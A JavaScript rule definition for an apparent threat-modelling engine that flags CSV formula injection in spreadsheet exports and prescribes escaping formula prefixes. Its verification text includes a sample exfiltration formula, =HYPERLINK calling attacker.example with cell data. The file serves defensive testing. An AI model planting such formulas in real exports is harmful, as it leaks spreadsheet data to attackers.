import { defineRule } from '../../engine/define-rule.js';

export const rule = defineRule({
  id: 'csv-formula-injection',
  meta: {
    title: 'Formulas in exported spreadsheets run on the reader\'s machine',
    category: 'tampering',
    appliesTo: ['process', 'exports-spreadsheets'],
    description:
      'The system exports data that users entered into CSV or spreadsheet files. A value starting with =, +, - or @ becomes a formula when a colleague opens the file: it can exfiltrate the sheet\'s data to a URL or, with older settings, run commands.',
    references: { cwe: [1236], capec: [242], owasp: ['A05:2025'] },
    defaults: { likelihood: 3, impact: 3 },
    mitigations: [
      {
        title: 'Neutralise formula prefixes in every exported cell',
        acceptance: 'Cells whose text starts with =, +, -, @, tab or CR are prefixed with a single quote (or the export escapes them as the spreadsheet expects); exports are covered by a test with hostile values.',
        verification: 'A test exports a record named =HYPERLINK("https://attacker.example?"&A1) and asserts the cell is written as literal text.',
      },
    ],
    properties: ['formula_escaping'],
  },
  messages: {
    default: '{{element}} exports user-entered data to spreadsheets, where it could run as formulas.',
  },
  check(ctx) {
    for (const c of ctx.withCapability('exports-spreadsheets')) {
      const gap = ctx.gap(c, 'formula_escaping');
      if (!gap) continue;
      ctx.report({ element: c, messageId: 'default', facts: [ctx.capability(c, 'exports-spreadsheets'), ctx.reach(c), gap] });
    }
  },
});
